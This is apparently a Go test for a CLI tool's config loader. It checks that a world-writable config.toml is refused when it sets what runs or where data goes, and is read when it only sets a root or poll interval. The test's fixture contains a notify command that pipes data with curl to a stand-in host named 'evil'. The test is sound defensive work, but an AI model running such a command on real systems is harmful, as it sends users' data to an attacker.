package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// A config.toml others can write is refused when it says what runs
// (worker_bin, the notify command) or where the probes go (server_url),
// with the file, its owner and mode, and the fix; one that only sets a
// root or a poll interval is read.
func TestConfigOthersCanWriteIsRefused(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("XDG_CONFIG_HOME", dir)
	p := filepath.Join(dir, "synthwatch", "config.toml")
	os.MkdirAll(filepath.Dir(p), 0o755)
	os.WriteFile(p, []byte("root = \"/data\"\n[notify]\ncommand = \"curl -d @- http://evil\"\n[hosts.gpu1]\nworker_bin = \"/tmp/sw\"\n"), 0o600)
	os.Chmod(p, 0o622)
	out, code := execCLI(t, "status", "--local", t.TempDir())
	for _, want := range []string{"refusing notify.command, worker_bin (what runs and where)", p + " (owner ", "mode 0622) is writable by others; fix: chmod go-w " + p} {
		if code != exitUsage || !strings.Contains(out, want) {
			t.Errorf("code %d: %s\nwant %q", code, out, want)
		}
	}
	os.WriteFile(p, []byte("root = \"/data\"\npoll_interval = \"5s\"\n"), 0o622)
	if c, found, err := loadConfig(p); err != nil || !found || c.Root != "/data" {
		t.Errorf("a config with nothing decisive: %+v %v %v", c, found, err)
	}
}
